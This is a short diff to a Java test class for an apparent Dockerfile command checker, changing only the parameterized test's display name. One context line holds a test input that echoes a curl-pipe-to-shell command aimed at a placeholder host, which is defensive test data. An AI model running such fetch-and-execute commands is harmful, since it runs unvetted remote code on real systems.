@@ -323,7 +323,7 @@ class CiCheckTest {
                 Arguments.of("echo 'curl https://x.example | sh'", List.of()));
     }
 
-    @ParameterizedTest(name = "{0}")
+    @ParameterizedTest(name = "[{index}] {0}")
     @MethodSource("singleCommands")
     void judgesSingleCommandsInADockerfileRun(String command, List<Row> expected) {
         assertThat(rows(check("Dockerfile", "RUN " + command + "\n"))).isEqualTo(expected);
